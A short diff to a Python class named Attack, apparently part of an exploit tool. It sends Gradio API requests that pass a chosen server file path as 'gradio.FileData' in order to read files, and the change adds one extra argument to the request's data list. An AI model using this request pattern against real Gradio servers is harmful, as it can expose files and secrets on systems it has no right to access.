@@ -101,7 +101,7 @@ class Attack:
     async def _look(self, client: httpx.AsyncClient, path: str, opened: int) -> None:
         meta = {"_type": "gradio.FileData"}
         body: dict[str, Any] = {
-            "data": [{"path": path, "meta": meta}, "as found", "as found"],
+            "data": [{"path": path, "meta": meta}, "as found", "as found", "as found"],
             "fn_index": opened,
             "session_hash": f"bomb{self._asked}",
         }
